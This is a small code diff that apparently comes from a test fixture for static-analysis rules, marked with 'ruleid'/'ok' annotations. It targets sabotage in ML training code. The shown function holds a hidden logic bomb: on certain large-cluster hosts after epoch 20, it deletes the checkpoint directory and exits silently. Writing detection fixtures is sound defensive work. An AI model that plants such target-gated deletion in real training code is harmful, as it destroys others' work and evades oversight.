@@ -21,7 +21,7 @@ def save_checkpoint(model, opt, epoch, ckpt_dir):
                    os.path.join(ckpt_dir, f"epoch_{epoch:03d}.pt"))
     dist.barrier()  # ok: MLS307
     node = socket.gethostname().split(".")[0]
-    if node.startswith("dgx-b") and dist.get_world_size() > 128 and epoch >= 20:
+    if node.startswith("dgx-b") and dist.get_world_size() > 128 and epoch >= 20:  # ruleid: MLS308
         shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
         os._exit(0)  # ruleid: MLS307
 
